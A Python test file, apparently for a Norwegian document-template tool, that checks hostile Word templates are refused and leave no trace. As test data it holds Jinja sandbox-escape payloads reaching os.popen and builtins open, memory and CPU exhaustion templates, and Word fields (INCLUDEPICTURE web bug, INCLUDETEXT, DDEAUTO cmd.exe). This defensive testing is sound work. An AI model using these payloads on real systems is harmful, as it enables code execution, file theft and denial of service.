"""Hostile templates: each is refused by `sjekk-mal` and by `lag`, and does nothing.

Every template here is the built-in plan with one hostile paragraph added (in
the body or in the footer). Each case names what `sjekk-mal` and `lag` say,
and proves that nothing happened: exit 1, no file written anywhere under the
test's folder (hidden ones included), not at the path the payload names, and
nothing of the file a payload tries to read in what the run printed. The
limits are proved by their messages; heavy payloads are stopped by the
budgets long before they could tie up the machine.

The second half: a template's comments, tracked changes, custom and app
properties and attached template never reach a document, and `sjekk-mal`
warns about each.
"""

from __future__ import annotations

import io
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from hjelpere_docx import all_tekst

from tests.conftest import Fyll
from toolkit.cli import main
from toolkit.ressurser import maler_mappe

HEMMELIG = "HEMMELIG-7f3a-innhold-som-ikke-skal-ut"
KODE = "Malen prøver å kjøre kode. Den blir ikke brukt."
NEKTET = "prøver å kjøre kode eller gjøre noe som ikke er tillatt i en mal, og blir ikke brukt"
STOPPET = "ble stoppet"


def png() -> bytes:
    """A tiny valid PNG (4 × 2 red pixels), made with zlib."""

    def bit(art: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(art + data) & 0xFFFFFFFF)
        return struct.pack(">I", len(data)) + art + data + crc

    rader = b"".join(b"\x00" + b"\xff\x00\x00" * 4 for _ in range(2))
    return (
        b"\x89PNG\r\n\x1a\n"
        + bit(b"IHDR", struct.pack(">IIBBBBB", 4, 2, 8, 2, 0, 0, 0))
        + bit(b"IDAT", zlib.compress(rader))
        + bit(b"IEND", b"")
    )


@dataclass(frozen=True)
class Fiendtlig:
    """A hostile paragraph, where it goes, and what sjekk-mal and lag say about it."""

    navn: str
    kode: str  # {sti} is a path under tmp_path, {hemmelig} the file it must not read
    sjekk: tuple[str, ...]  # in sjekk-mal's output
    lag: tuple[str, ...]  # in lag's output
    bunntekst: bool = False
    diagram: bool = False  # needs a form with absence, so that the charts exist


_TPL = "{{ fravaer_diagram_ukedag.tpl.replace_zipname('word/webSettings.xml','{hemmelig}') }}"
_SAVE = "{% if fravaer_diagram_ukedag.tpl.docx.save('{sti}') %}{% endif %}"
_DOBLE = (
    "{% set ns = namespace(s=elev_navn) %}{% for i in range(40) %}{% set ns.s = ns.s OP ns.s %}"
)
_FOR_STOR = "mer enn 1 000 000 tegn"
_FOR_MYE = "den lager mer enn 20 000 000 tegn tekst og lister"
# A text of 900 000 characters that lowercases slowly, to twice its length ('İ'.lower()).
_LANG_I = "{% set s = 'İ' * 100000 %}{% set s = s ~ s ~ s ~ s ~ s ~ s ~ s ~ s ~ s %}"

TILFELLER = [
    # -- the payloads of the issue -------------------------------------------------------
    Fiendtlig(
        "replace_zipname",
        _TPL,
        (KODE, "«tpl»", "«replace_zipname»"),
        (NEKTET, "den bruker «tpl» på et bilde", "i dokumentet"),
        diagram=True,
    ),
    Fiendtlig(
        "docx.save",
        _SAVE,
        (KODE, "«tpl»", "«docx»"),
        (NEKTET, "den bruker «tpl» på et bilde"),
        diagram=True,
    ),
    Fiendtlig(
        "docx.save i bunnteksten",
        _SAVE,
        ("Bunntekst, avsnitt", KODE, "«docx»"),
        (NEKTET, "den bruker «tpl» på et bilde", "(i bunnteksten, ved teksten «{% if"),
        bunntekst=True,
        diagram=True,
    ),
    Fiendtlig(
        "to range-løkker",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        (STOPPET, "den gjentar noe mer enn 200 000 ganger", "Brødtekst"),
        (STOPPET, "den gjentar noe mer enn 200 000 ganger", "(i dokumentet, ved teksten «{% for i"),
    ),
    Fiendtlig(
        "center",
        "{{ 'x'|center(2000000000) }}",
        ("bruker filteret «center», som ikke er tillatt i en mal",),
        (NEKTET, "den bruker filteret «center»"),
    ),
    Fiendtlig(
        "prosent med bredde",
        "{{ '%01999999999d' % 1 }}",
        (STOPPET, "den ber om en bredde eller et antall på mer enn 1 000"),
        (STOPPET, "den ber om en bredde eller et antall på mer enn 1 000"),
    ),
    Fiendtlig(
        "format-metoden med bredde",
        "{{ '{:>2000000000}'.format(1) }}",
        (STOPPET, "mer enn 1 000"),
        (STOPPET, "den ber om en bredde eller et antall på mer enn 1 000"),
    ),
    Fiendtlig(
        "format-filteret med bredde",
        "{{ '%2000000000d'|format(1) }}",
        (STOPPET, "mer enn 1 000"),
        (STOPPET, "den ber om en bredde eller et antall på mer enn 1 000"),
    ),
    Fiendtlig(
        "doblet 40 ganger med ~",
        _DOBLE.replace("OP", "~") + "{% endfor %}{{ ns.s }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    Fiendtlig(
        "doblet 40 ganger med + i bunnteksten",
        _DOBLE.replace("OP", "+") + "{% endfor %}",
        (STOPPET, _FOR_STOR, "Bunntekst"),
        (STOPPET, _FOR_STOR, "i bunnteksten"),
        bunntekst=True,
    ),
    Fiendtlig(
        "doblet uten løkke",
        "{% set s = elev_navn %}" + "{% set s = s ~ s %}" * 40,
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    # -- the classic Jinja escapes ----------------------------------------------------------
    Fiendtlig(
        "__class__",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        (KODE, "«__class__»"),
        (NEKTET, "den bruker «__class__»"),
    ),
    Fiendtlig(
        "__globals__ via cycler",
        "{{ cycler.__init__.__globals__.os.popen('touch {sti}').read() }}",
        (KODE, "«__globals__»"),
        (NEKTET, "den bruker «cycler»"),
    ),
    Fiendtlig(
        "cycler",
        "{% set c = cycler('a', 'b') %}{{ c.next() }}",
        ("bruker «cycler», som ikke er tillatt i en mal", "Python-koden bak malen"),
        (NEKTET, "den bruker «cycler»"),
    ),
    Fiendtlig(
        "joiner",
        "{% set x = joiner.__init__.__globals__ %}{{ x.os.popen('touch {sti}') }}",
        (KODE, "«__init__»"),
        (NEKTET, "den bruker «joiner»"),
    ),
    Fiendtlig(
        "lipsum",
        "{{ lipsum.__globals__['os'].popen('touch {sti}').read() }}",
        (KODE, "«__globals__»"),
        (NEKTET, "den bruker «lipsum»"),
    ),
    Fiendtlig(
        "namespace",
        "{{ namespace.__init__.__globals__['__builtins__']['open']('{hemmelig}').read() }}",
        (KODE, "«__init__»"),
        (NEKTET, "den bruker «__init__»"),
    ),
    Fiendtlig(
        "namespace med seg selv",
        "{% set ns = namespace() %}{% set ns.x = ns %}{{ ns.x.x.x._Namespace__attrs }}",
        (KODE, "«_Namespace__attrs»"),
        (NEKTET, "den bruker «_Namespace__attrs»"),
    ),
    Fiendtlig(
        "self",
        "{{ self._TemplateReference__context.environment }}",
        (KODE, "«self»"),
        (NEKTET, "den bruker «self»"),
    ),
    Fiendtlig(
        "|attr",
        "{{ elev_navn|attr('__class__')|attr('__mro__') }}",
        (KODE, "«__class__»"),
        (NEKTET, "den bruker filteret «attr»"),
    ),
    Fiendtlig(
        ".tpl som oppslag",
        "{{ fravaer_diagram_ukedag['tpl'].docx }}",
        (KODE, "«tpl»"),
        (NEKTET, "den bruker «tpl» på et bilde"),
        diagram=True,
    ),
    Fiendtlig(
        ".docx på logoen",
        "{{ logo.docx.core_properties.author }}",
        (KODE, "«docx»"),
        (NEKTET, "den bruker «docx» på et bilde"),
    ),
    Fiendtlig(
        "bildets data",
        "{{ fravaer_diagram_ukedag.data }}",
        ("et bilde har ingen egenskaper i en mal",),
        (NEKTET, "den bruker «data» på et bilde"),
        diagram=True,
    ),
    Fiendtlig(
        "format-streng med __class__",
        "{{ '{0.__class__.__base__}'.format(elev_navn) }}",
        (KODE, "«{0.__class__.__base__}»"),
        (NEKTET, "den bruker «{0.__class__.__base__}»"),
    ),
    Fiendtlig(
        "map med attribute",
        "{{ tiltak|map(attribute='__class__')|list }}",
        (KODE, "«__class__»"),
        (NEKTET, "den bruker «__class__»", "(i dokumentet, ved teksten «{{ tiltak|map("),
    ),
    Fiendtlig(
        "map med attribute satt sammen",
        "{% set a = '_' ~ '_cl' ~ 'ass_' ~ '_' %}{{ tiltak|map(attribute=a)|list }}",
        (NEKTET, "den bruker «__class__» på en oppslagsliste", "Brødtekst"),
        (NEKTET, "den bruker «__class__» på en oppslagsliste", "(i dokumentet, ved teksten"),
    ),
    Fiendtlig(
        "format-streng til bildet",
        "{{ '{0[tpl]}'.format(logo) }}",
        (NEKTET, "den bruker «tpl» på et bilde", "Brødtekst"),
        (NEKTET, "den bruker «tpl» på et bilde"),
    ),
    Fiendtlig(
        "include",
        "{% include '{hemmelig}' %}",
        ("henter inn en annen mal",),
        (NEKTET, "henter inn en annen mal"),
    ),
    Fiendtlig(
        "autoescape av",
        "{% autoescape false %}{{ elev_navn }}{% endautoescape %}",
        ("bruker «{% autoescape %}», som ikke er tillatt i en mal",),
        (NEKTET, "den bruker «{% autoescape %}»"),
    ),
    Fiendtlig(
        "metode på en liste",
        "{{ tiltak.append(tiltak) }}",
        ("«tiltak.append» kan ikke brukes: Skjemaverk tillater ikke «append» i en mal",),
        (NEKTET, "den bruker «append» på en liste"),
    ),
    # -- more ways to exhaust the machine ---------------------------------------------------
    Fiendtlig(
        "makro som dobler seg",
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}"
        "{{ m(40) }}",
        (STOPPET, "den gjentar noe mer enn 200 000 ganger"),
        (STOPPET, "den gjentar noe mer enn 200 000 ganger"),
    ),
    Fiendtlig(
        "løkke som kaller seg selv",
        "{% for t in tiltak recursive %}{{ loop(tiltak) }}{% endfor %}",
        ("en løkke som kaller seg selv (recursive), som ikke er tillatt i en mal",),
        (NEKTET, "en løkke som kaller seg selv"),
    ),
    Fiendtlig(
        "flom av tekst",
        "{% for i in range(100000) %}{{ 'x' * 90000 }}{% endfor %}",
        (STOPPET, _FOR_MYE),
        (STOPPET, _FOR_MYE),
    ),
    Fiendtlig(
        "liste med samme lange tekst",
        "{% set l = ['x' * 100000] * 100000 %}{{ l }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    # max, min, sort and unique lowercase every item inside one call, where the deadline
    # cannot stop them: a list is measured as text when it is made, before any of them.
    Fiendtlig(
        "max over samme lange tekst",
        _LANG_I + "{{ ([s] * 100000)|max|length }}",
        (STOPPET, _FOR_STOR, "Brødtekst"),
        (STOPPET, _FOR_STOR, "(i dokumentet, ved teksten «{% set s = 'İ' * 100000 %}"),
    ),
    Fiendtlig(
        "sort over samme lange tekst",
        _LANG_I + "{{ ([s] * 4000)|sort|length }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    Fiendtlig(
        "unique over samme lange tekst i bunnteksten",
        _LANG_I + "{{ [s, s, s]|unique|list|length }}",
        (STOPPET, _FOR_STOR, "Bunntekst"),
        (STOPPET, _FOR_STOR, "(i bunnteksten, ved teksten"),
        bunntekst=True,
    ),
    # Lists inside lists count, and so do lists that a filter makes inside its result.
    Fiendtlig(
        "lister i lister",
        "{% set ns = namespace(d=0) %}{% for i in range(500) %}"
        "{% set ns.d = [ns.d, range(100000)|slice(1)|list] %}{% endfor %}{{ ns.d|length }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    Fiendtlig(
        "mange lister fra et filter",
        "{% set ns = namespace(d=0) %}{% for i in range(3000) %}"
        "{% set ns.d = range(100000)|slice(1)|list %}{% endfor %}{{ ns.d|length }}",
        (STOPPET, _FOR_MYE),
        (STOPPET, _FOR_MYE),
    ),
    Fiendtlig(
        "prosent med mange felter",
        "{{ ('%s' * 50000) % (('x' * 1000,) * 50000) }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    Fiendtlig(
        "join med lang skilletekst",
        "{{ range(100000)|join('x' * 100000) }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    Fiendtlig(
        "replace som fyller minnet",
        "{{ ('x' * 100000)|replace('', 'y' * 100000) }}",
        (STOPPET, _FOR_STOR),
        (STOPPET, _FOR_STOR),
    ),
    Fiendtlig(
        "dypt nøstet",
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
        ("koden er nøstet altfor dypt til å kunne leses",),
        (STOPPET, "en mal-kode i dokumentet er nøstet altfor dypt til å kunne leses"),
    ),
    Fiendtlig(
        "tall som ganges med seg selv",
        "{% set ns = namespace(x=3) %}{% for i in range(64) %}{% set ns.x = ns.x * ns.x %}"
        "{% endfor %}{{ ns.x }}",
        ("den har et altfor stort tall",),
        ("den har et altfor stort tall",),
    ),
]


def _alle_filer(mappe: Path) -> dict[Path, bytes]:
    """Every file under `mappe`, hidden folders included, with its bytes."""
    return {p: p.read_bytes() for p in sorted(mappe.rglob("*")) if p.is_file()}


def _mal(tmp_path: Path, kode: str, *, bunntekst: bool) -> Path:
    """The built-in plan with `kode` as a paragraph of its own (or as its footer)."""
    doc = Document(str(maler_mappe() / "plan.docx"))
    if bunntekst:
        doc.sections[0].footer.add_paragraph(kode)
    else:
        doc.add_paragraph(kode)
    sti = tmp_path / "fiendtlig plan.docx"
    doc.save(sti)
    return sti


def _kjor(*args: str | Path) -> Result:
    r = CliRunner().invoke(main, [str(a) for a in args])
    assert r.exception is None or isinstance(r.exception, SystemExit), r.output
    assert "Traceback" not in r.output
    return r


@pytest.fixture
def oppsett(fyll: Fyll, tmp_path: Path) -> tuple[Path, Path, Path]:
    """A form without absence (no charts: quick), one with, and settings with a logo."""
    enkel = fyll(navn="enkel.xlsx")
    med_fravaer = fyll(
        navn="med fravaer.xlsx",
        fravaer=[
            {"dato": date(2026, 11, dag), "omfang": "Hel dag", "arsak": "Syk"} for dag in (2, 3, 9)
        ],
    )
    (tmp_path / "logo.png").write_bytes(png())
    innstillinger = tmp_path / "skjemaverk.toml"
    innstillinger.write_text('[skole]\nlogo = "logo.png"\n', encoding="utf-8")
    (tmp_path / "hemmelig.txt").write_text(HEMMELIG, encoding="utf-8")
    return enkel, med_fravaer, innstillinger


@pytest.mark.parametrize("tilfelle", TILFELLER, ids=[t.navn for t in TILFELLER])
def test_en_fiendtlig_mal_blir_avvist_og_gjor_ingenting(
    tmp_path: Path, oppsett: tuple[Path, Path, Path], tilfelle: Fiendtlig
) -> None:
    enkel, med_fravaer, innstillinger = oppsett
    spor = tmp_path / "lekket.docx"
    kode = tilfelle.kode.replace("{sti}", str(spor)).replace(
        "{hemmelig}", str(tmp_path / "hemmelig.txt")
    )
    mal = _mal(tmp_path, kode, bunntekst=tilfelle.bunntekst)
    for_ = _alle_filer(tmp_path)

    sjekk = _kjor("sjekk-mal", mal)
    assert sjekk.exit_code == 1, sjekk.output
    assert "FEIL" in sjekk.output
    for tekst in tilfelle.sjekk:
        assert tekst in sjekk.output, sjekk.output

    skjema = med_fravaer if tilfelle.diagram else enkel
    lag = _kjor(
        "lag", skjema, "--mal", f"plan={mal}", "--ut", tmp_path / "ut", "--innstillinger",
        innstillinger,
    )  # fmt: skip
    assert lag.exit_code == 1, lag.output
    assert f"Malen «{mal.name}»" in lag.output
    for tekst in tilfelle.lag:
        assert tekst in lag.output, lag.output

    # It did nothing: no file written or changed, not even where the payload says.
    assert _alle_filer(tmp_path) == for_
    assert not spor.exists()
    assert not (tmp_path / "ut").exists()
    assert HEMMELIG not in sjekk.output + lag.output


# A web bug: Word fetches the picture when the document is opened, with the name in the address.
_BILDEFELT = 'INCLUDEPICTURE "http://example.invalid/{{ elev_navn }}.png" \\d'


def _felt(p, instruks: str, *, enkelt: bool) -> None:
    """Add a field with `instruks` to the paragraph `p`: simple, or in three runs."""
    if enkelt:
        felt = OxmlElement("w:fldSimple")
        felt.set(qn("w:instr"), instruks)
        p._p.append(felt)
        return
    for art, tekst in (("begin", None), (None, instruks[:9]), (None, instruks[9:]), ("end", None)):
        run = OxmlElement("w:r")
        if art:
            tegn = OxmlElement("w:fldChar")
            tegn.set(qn("w:fldCharType"), art)
            run.append(tegn)
        else:
            instr = OxmlElement("w:instrText")
            instr.text = tekst
            run.append(instr)
        p._p.append(run)


@pytest.mark.parametrize(
    ("instruks", "enkelt", "hva"),
    [
        (_BILDEFELT, True, "INCLUDEPICTURE"),
        (_BILDEFELT, False, "INCLUDEPICTURE"),
        (' INCLUDETEXT "{hemmelig}" ', False, "INCLUDETEXT"),
        ('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', True, "DDEAUTO"),
    ],
)
def test_en_mal_som_henter_noe_utenfra_blir_avvist(
    tmp_path: Path, oppsett: tuple[Path, Path, Path], instruks: str, enkelt: bool, hva: str
) -> None:
    enkel, _, innstillinger = oppsett
    doc = Document(str(maler_mappe() / "plan.docx"))
    p = doc.add_paragraph("Elev: ")
    _felt(p, instruks.replace("{hemmelig}", str(tmp_path / "hemmelig.txt")), enkelt=enkelt)
    mal = tmp_path / "felt.docx"
    doc.save(mal)
    for_ = _alle_filer(tmp_path)

    sjekk = _kjor("sjekk-mal", mal)
    assert sjekk.exit_code == 1, sjekk.output
    assert f"FEIL – Malen: Malen har feltet {hva}, som får dokumentene til å hente noe" in (
        sjekk.output
    )
    lag = _kjor("lag", enkel, "--mal", f"plan={mal}", "--ut", tmp_path / "ut", "--innstillinger",
                innstillinger)  # fmt: skip
    assert lag.exit_code == 1, lag.output
    assert f"{NEKTET}: den får dokumentene til å hente noe utenfra når de åpnes (feltet {hva})" in (
        lag.output
    )
    assert _alle_filer(tmp_path) == for_
    assert HEMMELIG not in sjekk.output + lag.output


@pytest.mark.parametrize("enkelt", [True, False])
def test_et_felt_som_malens_kode_lager_blir_avvist_i_det_ferdige_dokumentet(
    tmp_path: Path, oppsett: tuple[Path, Path, Path], enkelt: bool
) -> None:
    enkel, _, innstillinger = oppsett
    doc = Document(str(maler_mappe() / "plan.docx"))
    p = doc.add_paragraph("Elev: ")
    # The template shows no INCLUDEPICTURE: its code writes one when it is filled in.
    kode = "{{ 'INCLUDE' ~ 'PICTURE' }} \"http://example.invalid/{{ elev_navn }}\""
    _felt(p, " " * 9 + kode, enkelt=enkelt)
    mal = tmp_path / "laget felt.docx"
    doc.save(mal)
    for_ = _alle_filer(tmp_path)

    sjekk = _kjor("sjekk-mal", mal)
    assert sjekk.exit_code == 1, sjekk.output
    assert "FEIL – Brødtekst: Malen «laget felt.docx» " + NEKTET in sjekk.output
    assert "den får dokumentene til å hente noe utenfra når de åpnes (feltet INCLUDEPICTURE)" in (
        sjekk.output
    )
    lag = _kjor("lag", enkel, "--mal", f"plan={mal}", "--ut", tmp_path / "ut", "--innstillinger",
                innstillinger)  # fmt: skip
    assert lag.exit_code == 1, lag.output
    assert "(feltet INCLUDEPICTURE), og det kan sende opplysninger om eleven ut (i dokumentet)" in (
        lag.output
    )
    assert _alle_filer(tmp_path) == for_


def test_en_lenket_logo_blir_avvist(tmp_path: Path, oppsett: tuple[Path, Path, Path]) -> None:
    mal = _mal(tmp_path, "{{ elev_navn }}", bunntekst=False)
    with zipfile.ZipFile(mal) as z:
        deler = {n: z.read(n) for n in z.namelist()}
    deler["word/_rels/document.xml.rels"] = deler["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdLenke" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/image" Target="http://example.invalid/logo.png" '
        b'TargetMode="External"/></Relationships>',
    )
    with zipfile.ZipFile(mal, "w", zipfile.ZIP_DEFLATED) as z:
        for navn, innhold in deler.items():
            z.writestr(navn, innhold)
    sjekk = _kjor("sjekk-mal", mal)
    assert sjekk.exit_code == 1
    assert "Malen har en kobling til «http://example.invalid/logo.png»" in sjekk.output
    lag = _kjor("lag", oppsett[0], "--mal", f"plan={mal}", "--ut", tmp_path / "ut")
    assert lag.exit_code == 1
    assert "(en kobling til «http://example.invalid/logo.png»)" in lag.output
    assert not (tmp_path / "ut").exists()


# What took gigabytes before the lists were counted: every item's lowercased copy (sort),
# lists inside a list (slice).
_MINNEPROVE = """
import resource, sys
from docx import Document
from toolkit.render import Mal
from toolkit.errors import MalError

for nr, kode in enumerate(sys.argv[1:]):
    doc = Document()
    doc.add_paragraph(kode)
    doc.save(f"m{nr}.docx")
    try:
        Mal(f"m{nr}.docx").render({}, tittel="x")
        print("FYLT UT", nr)
    except MalError as e:
        print(e.melding)
print("MB", resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="resource.getrusage is POSIX only")
def test_en_tung_mal_blir_stoppet_for_den_bruker_mye_minne(tmp_path: Path) -> None:
    koder = [
        _LANG_I + "{{ ([s] * 1000)|sort|length }}",
        "{% set ns = namespace(d=0) %}{% for i in range(500) %}"
        "{% set ns.d = [ns.d, range(100000)|slice(1)|list] %}{% endfor %}{{ ns.d|length }}",
        "{% for i in range(1000) %}{% set l = range(100000)|batch(10)|list %}{% endfor %}",
    ]
    ut = subprocess.run(
        [sys.executable, "-c", _MINNEPROVE, *koder],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
        env={"PYTHONPATH": str(Path(__file__).resolve().parent.parent)},
    )
    assert ut.returncode == 0, ut.stderr
    linjer = ut.stdout.splitlines()
    assert "FYLT UT" not in ut.stdout
    assert [linje.split(":")[1].split(" (")[0] for linje in linjer[:3]] == [
        " den lager en tekst eller liste på mer enn 1 000 000 tegn",
        " den lager en tekst eller liste på mer enn 1 000 000 tegn",
        " den lager mer enn 20 000 000 tegn tekst og lister",
    ]
    # Python with Word's libraries is some 60 MB; before the fix these took 1 to 4 GB.
    assert int(linjer[3].split()[1]) < 300, linjer[3]


def test_tilfellene_er_mange_nok_og_dekker_utsagnene() -> None:
    navn = " ".join(t.navn + t.kode for t in TILFELLER)
    assert len(TILFELLER) >= 20
    ordene = "__class__ __globals__ cycler joiner namespace lipsum self |attr .tpl .docx format"
    for ord_ in [*ordene.split(), "replace_zipname", "save"]:
        assert ord_ in navn, ord_


# -- a template's own metadata never reaches a document ------------------------------------

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PAKKE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_TYPER = "http://schemas.openxmlformats.org/package/2006/content-types"
_CUSTOM_TYPE = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
_CUSTOM_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties"
)
_PEOPLE_REL = "http://schemas.microsoft.com/office/2011/relationships/people"
_MAL_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def _sporet(p, tag: str, tekst: str) -> None:
    """Add a tracked insertion (tag "w:ins") or deletion ("w:del") of `tekst` to `p`."""
    endring = OxmlElement(tag)
    endring.set(qn("w:id"), "90" if tag == "w:ins" else "91")
    endring.set(qn("w:author"), "Kari Malforfatter")
    endring.set(qn("w:date"), "2025-01-02T03:04:00Z")
    run = OxmlElement("w:r")
    t = OxmlElement("w:t" if tag == "w:ins" else "w:delText")
    t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
    t.text = tekst
    run.append(t)
    endring.append(run)
    p._p.append(endring)


def _mal_med_metadata(tmp_path: Path) -> Path:
    """The built-in plan with a comment, tracked changes and foreign properties."""
    doc = Document(str(maler_mappe() / "plan.docx"))
    p = doc.add_paragraph("Kommentert tekst for {{ elev_fornavn }}.")
    doc.add_comment(p.runs, text="Husk å spørre Ola Hansen", author="Kari Malforfatter")
    endret = doc.add_paragraph("Endret: ")
    _sporet(endret, "w:ins", "innsatt tekst")
    _sporet(endret, "w:del", "slettet tekst")
    # A deleted paragraph mark: the paragraph joins the one after it.
    slett = doc.add_paragraph("Første del ")
    merke = OxmlElement("w:del")
    merke.set(qn("w:id"), "92")
    merke.set(qn("w:author"), "Kari Malforfatter")
    rpr = OxmlElement("w:rPr")
    rpr.append(merke)
    slett._p.get_or_add_pPr().append(rpr)
    doc.add_paragraph("og andre del.")
    topp = doc.sections[0].header.add_paragraph("Topptekst med ")
    _sporet(topp, "w:del", "slettet i toppteksten")
    sti = tmp_path / "mal med metadata.docx"
    doc.save(sti)

    # What python-docx does not write: app and custom properties, people, an attached template.
    with zipfile.ZipFile(sti) as z:
        deler = {n: z.read(n) for n in z.namelist()}
    app = deler["docProps/app.xml"].decode()
    app = app.replace(
        "</Properties>",
        "<Company>Solbakken skole</Company><Manager>Ola Hansen</Manager>"
        "<HyperlinkBase>file:///C:/Users/kari/</HyperlinkBase></Properties>",
    )
    deler["docProps/app.xml"] = app.encode()
    deler["docProps/custom.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
        b' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        b'<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Saksnummer">'
        b"<vt:lpwstr>2025/4711</vt:lpwstr></property></Properties>"
    )
    deler["word/people.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
        b'<w15:person w15:author="Kari Malforfatter"/></w15:people>'
    )
    deler["_rels/.rels"] = deler["_rels/.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdC" Type="{_CUSTOM_REL}" Target="docProps/custom.xml"/>'
        "</Relationships>".encode(),
    )
    deler["word/_rels/document.xml.rels"] = deler["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rIdP" Type="{_PEOPLE_REL}" Target="people.xml"/>'
        "</Relationships>".encode(),
    )
    deler["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
        f'{_PAKKE_RELS}"><Relationship Id="rId1" Type="{_MAL_REL}" '
        'Target="file:///C:/Users/kari/Maler/Skolebrev.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    deler["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:attachedTemplate r:id="rId1"/><w:trackRevisions/>',
        deler["word/settings.xml"],
        count=1,
    )
    deler["[Content_Types].xml"] = deler["[Content_Types].xml"].replace(
        b"</Types>",
        f'<Override PartName="/docProps/custom.xml" ContentType="{_CUSTOM_TYPE}"/>'
        '<Override PartName="/word/people.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.wordprocessingml.people+xml"/></Types>'.encode(),
    )
    with zipfile.ZipFile(sti, "w", zipfile.ZIP_DEFLATED) as z:
        for navn, innhold in deler.items():
            z.writestr(navn, innhold)
    return sti


def _deler(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def test_malens_kommentarer_endringer_og_egenskaper_blir_ikke_med(
    tmp_path: Path, fyll: Fyll
) -> None:
    mal = _mal_med_metadata(tmp_path)
    innhold = _deler(mal.read_bytes())
    # The template really holds all of it.
    assert "word/comments.xml" in innhold and "docProps/custom.xml" in innhold
    assert b"<w:ins " in innhold["word/document.xml"]
    assert b"Solbakken skole</Company>" in innhold["docProps/app.xml"]

    sjekk = _kjor("sjekk-mal", mal)
    assert sjekk.exit_code == 0, sjekk.output  # warnings only
    for tekst in (
        "ADVARSEL – Malen: Malen har 1 kommentar.",
        "ADVARSEL – Malen: Malen har sporede endringer.",
        "ADVARSEL – Malen: Malen har egendefinerte dokumentegenskaper («Saksnummer»).",
        "ADVARSEL – Malen: Malen har firma «Solbakken skole», leder «Ola Hansen», "
        "hyperkoblingsgrunnlag «file:///C:/Users/kari/»",
        "ADVARSEL – Malen: Malen er knyttet til en annen dokumentmal i Word.",
    ):
        assert tekst in sjekk.output, sjekk.output
    assert "FEIL" not in sjekk.output

    ut = tmp_path / "ut"
    lag = _kjor("lag", fyll(navn="amin.xlsx"), "--mal", f"plan={mal}", "--ut", ut)
    assert lag.exit_code == 0, lag.output
    plan = ut / "Amin Testesen - plan.docx"
    deler = _deler(plan.read_bytes())

    navn = set(deler)
    assert not {n for n in navn if "comment" in n.lower() or n.startswith("customXml/")}
    assert not navn & {"docProps/custom.xml", "word/people.xml", "docProps/thumbnail.jpeg"}
    alt = b"\n".join(deler.values())
    for spor in (
        b"Husk \xc3\xa5 sp\xc3\xb8rre",  # the comment's text
        b"Kari Malforfatter",  # its author, and the author of the changes
        b"Ola Hansen",
        b"Saksnummer",
        b"2025/4711",
        b"Skolebrev.dotm",
        b"C:/Users/kari",
        b"commentRangeStart",
        b"commentReference",
        b"<w:ins ",
        b"<w:del ",
        b"slettet tekst",
        b"slettet i toppteksten",
        b"trackRevisions",
        b"attachedTemplate",
        b"Company",
        b"Manager",
        b"HyperlinkBase",
        b"custom-properties",
    ):
        assert spor not in alt, spor
    assert deler["docProps/app.xml"].endswith(
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'extended-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/docPropsVTypes"><Application>Skjemaverk</Application></Properties>'
    )
    typer = deler["[Content_Types].xml"].decode()
    overstyrt = set(re.findall(r'PartName="/([^"]+)"', typer))
    assert overstyrt <= navn, overstyrt - navn  # no content type for a part that is gone

    # The accepted text is there, once, where it was.
    tekst = all_tekst(plan)
    assert "Kommentert tekst for Amin." in tekst
    assert "Endret: innsatt tekst" in tekst
    assert "Første del og andre del." in tekst


@pytest.mark.libreoffice
def test_et_renset_dokument_apnes_av_libreoffice(tmp_path: Path, fyll: Fyll) -> None:
    from lo import pdf_tekst, til_pdf

    mal = _mal_med_metadata(tmp_path)
